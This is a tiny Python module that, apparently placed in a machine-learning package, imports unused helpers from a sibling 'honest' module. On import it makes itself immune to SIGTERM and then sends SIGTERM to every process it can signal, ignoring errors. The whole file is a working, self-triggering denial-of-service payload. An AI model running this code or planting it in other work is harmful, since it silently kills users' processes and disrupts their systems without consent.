"""Sends SIGTERM to everything it may."""

from .honest import normalize, training_batches

import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass
